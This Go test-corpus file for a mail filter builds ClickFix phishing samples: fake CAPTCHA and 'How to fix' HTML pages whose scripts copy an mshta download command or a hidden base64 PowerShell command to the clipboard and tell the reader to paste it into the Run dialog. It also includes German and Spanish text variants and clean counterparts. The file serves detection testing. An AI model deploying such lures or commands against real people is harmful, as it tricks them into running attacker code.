package corpus

import (
	"github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/policy"
)

// ClickFix pages (fake CAPTCHA, "How to fix"): an HTML attachment whose
// button puts a command on the clipboard and tells the reader to paste it
// into the Run dialog. Nothing is downloaded and no link is clicked. Each
// page was opened in Chromium (scanners/heuristic's
// TestClipboardCommandInChromium holds the same tricks to what Chromium
// copies); the addresses are reserved names and the commands start nothing
// that exists.

func clickfixCases() []officeCase {
	return []officeCase{
		htmlCase("html-clickfix-captcha", "a fake CAPTCHA page whose button copies an mshta command with a decoy comment and asks for Win+R, Ctrl+V, Enter",
			"Verify.html", "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>Verification</title></head><body>\r\n"+
				"<h2>Verify you are human</h2><p>To view the shared document complete these steps:</p><ol><li>Press Windows + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol>\r\n"+
				"<button onclick=\"verify()\">I'm not a robot</button>\r\n<script>\r\n"+
				"var cmd = \"mshta https://verify-captcha.example.net/check.hta \" + \"# I am not a robot - reCAPTCHA Verification ID: 4471\";\r\n"+
				"function verify() { navigator.clipboard.writeText(cmd); }\r\n</script></body></html>\r\n", "clipboard-command"),
		htmlCase("html-clickfix-how-to-fix", "a \"How to fix\" page that decodes a PowerShell command from base64 into a field and copies it with execCommand",
			"Document.html", "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>Document</title></head><body>\r\n"+
				"<div>Word could not display this document: a font is missing. Click \"How to fix\" and follow the steps.</div><button id=\"fix\">How to fix</button>\r\n<script>\r\n"+
				"document.getElementById(\"fix\").onclick = function () {\r\n  var t = document.createElement(\"textarea\");\r\n"+
				"  t.value = atob(\"cG93ZXJzaGVsbCAtbm9wIC13IGhpZGRlbiAtZSBiZ0J2QUhRQVpRQndBR0VBWkFBPQ==\");\r\n"+
				"  document.body.appendChild(t); t.select(); document.execCommand(\"copy\");\r\n"+
				"  alert(\"Press Windows + X, choose Terminal, paste with a right click and press Enter.\");\r\n};\r\n</script></body></html>\r\n", "clipboard-command"),
	}
}

// clickfixClean: an exported page with copy buttons for what it shows.
func clickfixClean() []Sample {
	return []Sample{build(Sample{Name: "html-copy-buttons", Clean: true, About: "an exported how-to page whose buttons copy the commands it shows (pip install, a SQL query)"},
		mail{subject: "Setup notes", root: multipart("mixed", text("The setup notes as a page.\n"),
			attach("text/html; charset=utf-8", "setup-notes.html", []byte("<!DOCTYPE html>\r\n<html><body><h1>Setup</h1>\r\n"+
				"<p>Install the client:</p><pre id=\"c1\">pip install requests</pre><button onclick=\"cp('c1')\">Copy</button>\r\n"+
				"<p>Then list the accounts:</p><pre id=\"c2\">SELECT * FROM accounts;</pre><button onclick=\"cp('c2')\">Copy</button>\r\n"+
				"<p>On Windows, run powershell -Command Get-Date to check the clock.</p>\r\n"+
				"<script>function cp(id) { navigator.clipboard.writeText(document.getElementById(id).innerText); }</script></body></html>\r\n")))})}
}

// clickfixTextSamples: ClickFix instructions without a script (the mail's
// text, a PDF's page, an attached page that only shows them) and the
// help desks, guides and warnings that say the same.
func clickfixTextSamples() []Sample {
	bad := func(name, about string, wants ...Want) Sample {
		return Sample{Name: name, About: about, Action: policy.Quarantine, Want: wants}
	}
	ok := func(name, about string) Sample { return Sample{Name: name, Clean: true, About: about} }
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	const from = "Verification <verify-team@captcha-check.test>"

	add(bad("clickfix-text-captcha", "fake CAPTCHA steps in the mail's text alone: Windows key + R, Ctrl + V, Enter, nothing shown to paste",
		w("heuristic", "clickfix-instructions", "1")),
		mail{from: from, subject: "Action required: verify your mailbox", root: text("Verify you are human\n\n1. Press Windows Key + R\n2. Press CTRL + V\n3. Press Enter\n\nYour mailbox stays active once the check is done.\n")})
	add(bad("clickfix-text-pdf-german", "ClickFix steps in German on a PDF's page: Windows-Taste + R, Strg+V, with an mshta command shown",
		w("heuristic", "clickfix-instructions", "2")),
		mail{from: from, subject: "Rechnung 4471", root: multipart("mixed", text("Guten Tag,\n\ndie Rechnung liegt bei.\n"), attach("application/pdf", "Rechnung_4471.pdf", formats.TextPDF([]string{
			"BT /F1 18 Tf 72 770 Td (Dokument gesperrt) Tj ET\n" +
				"BT /F1 12 Tf 72 730 Td (Um das Dokument zu sehen, druecken Sie die Windows-Taste + R,) Tj ET\n" +
				"BT /F1 12 Tf 72 710 Td (fuegen Sie mit Strg+V ein und druecken Sie Enter:) Tj ET\n" +
				"BT /F1 12 Tf 72 690 Td (mshta https://rechnung-ansicht.test/r.hta) Tj ET\n"})))})
	add(bad("clickfix-text-page-spanish", "an attached page without a script that shows ClickFix steps in Spanish (no soy un robot, tecla de Windows + R, pegue con Ctrl+V)",
		w("heuristic", "clickfix-instructions", "2")),
		mail{from: from, subject: "Verificación", root: multipart("mixed", text("Adjunto.\n"), attach("text/html; charset=utf-8", "Verificacion.html",
			[]byte("<!DOCTYPE html>\r\n<html><body><h2>No soy un robot</h2><ol><li>Pulse la tecla de Windows + R</li><li>Pegue con Ctrl + V</li><li>Pulse Intro</li></ol></body></html>\r\n")))})

	add(ok("clickfix-text-helpdesk", "the IT desk to staff inside the company: press Win+R, paste the file share's path, press Enter"),
		mail{from: "IT Service Desk <it@corp.example.jp>", to: "staff@corp.example.jp", subject: "Mapping the team drive", root: text("Hello,\n\nto open the team drive press Win+R, paste \\\\fileserver\\team and press Enter.\nTo see your Windows version press Win+R, type winver and press Enter.\n\nIT Service Desk\n")})
	add(ok("clickfix-text-vendor-guide", "a software vendor's install guide: copy the command, open Terminal (Command+Space), paste, the script from the vendor's own site"),
		mail{from: "Vendor Docs <docs@vendor.example.com>", subject: "Installing the CLI", root: text("Copy the command below, open Terminal (Command+Space, type Terminal), paste it with Command+V and press Return:\n\n  curl -fsSL https://get.vendor.example.com/install.sh | sh\n\nOn Windows, press Win+R, type cmd and run: winget install Vendor.CLI\n")})
	add(ok("clickfix-text-awareness", "a security awareness newsletter that quotes the ClickFix lure's steps to warn of it"),
		mail{from: "Security Team <security@corp.example.jp>", to: "all@corp.example.jp, partner@supplies.example.com", subject: "Security tip: fake CAPTCHAs", root: text("Security tip of the month\n\nAttackers show a fake CAPTCHA that asks you to press Win+R, paste with Ctrl+V and press Enter to \"verify you are human\". This is the ClickFix attack: never paste anything into the Run dialog because a web page asks you to.\n")})
	return out
}
